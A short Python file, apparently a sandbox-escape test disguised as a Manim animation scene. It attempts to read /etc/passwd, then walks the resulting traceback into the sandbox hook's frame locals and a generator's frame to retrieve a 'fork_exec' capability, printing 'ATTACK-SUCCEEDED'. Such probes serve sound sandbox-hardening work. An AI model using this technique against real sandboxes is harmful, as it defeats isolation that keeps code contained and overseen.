"""Dig the sandbox's own state out of a traceback: the hook's frame, its decider generator's frame."""
from manim import *


class GuardFrames(Scene):
    def construct(self):
        try:
            open("/etc/passwd")  # ATTACK
        except PermissionError as exc:
            tb = exc.__traceback__  # ATTACK
            while tb.tb_next:  # ATTACK
                tb = tb.tb_next  # ATTACK
            hook_locals = tb.tb_frame.f_locals  # ATTACK
            print("hook frame locals:", sorted(hook_locals))
            decider = hook_locals["send"].__self__  # ATTACK
            secret = decider.gi_frame.f_locals["fork_exec"]  # ATTACK
            print("ATTACK-SUCCEEDED", secret)
        self.add(Dot())
